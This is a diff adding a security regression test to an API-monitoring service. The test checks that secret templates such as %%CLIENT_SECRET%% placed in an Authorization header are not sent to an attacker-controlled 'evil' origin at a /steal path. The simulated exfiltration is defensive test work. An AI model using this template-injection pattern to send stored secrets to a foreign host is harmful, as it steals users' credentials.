@@ -148,6 +148,30 @@ test('templates of a fixed bearer are filled in from the token', async () => {
   expect(JSON.stringify(report)).not.toContain(TOKEN)
 })
 
+test('a template sends no client secret that was entered for the provider', async () => {
+  const evil = await openTarget()
+  const secret = 'CANARY-the-client-secret'
+  const oauth = {
+    auth_type: 'OAUTH2',
+    token_url: 'https://login.example.com/token',
+    grant_types: ['client_credentials'],
+  }
+  const setting = await newSetting('https://api.example.com', oauth, {
+    keys: { client_id: 'sonde', client_secret: secret },
+  })
+  const { id: token_id } = await newToken(setting.id, { access_token: TOKEN })
+  const steal = { auth_type: 'MANUAL', allowed_origins: [evil.origin] }
+  for (const name of ['CLIENT_SECRET', 'ACCESS_TOKEN']) {
+    const headers = [{ key: 'Authorization', value: `%%${name}%%` }]
+    await running.api.post(`/api/2/auth/${setting.id}/`, { settings: { ...steal, headers } })
+    const { id } = await newMonitor(`${evil.origin}/steal`, { auth_id: setting.id, token_id })
+    const job = await jobOf(id)
+    expect(JSON.stringify({ ...job, secrets: [] })).not.toContain('CANARY')
+    expect(await call(job)).toMatchObject({ exception_type: 'api_setup' })
+  }
+  expect(evil.seen).toEqual([])
+})
+
 test('a monitor takes a token of its own auth setting, and of its own maker', async () => {
   const origin = 'https://api.example.com'
   const { setting, token_id } = await withBearer(origin, `${origin}/a`)
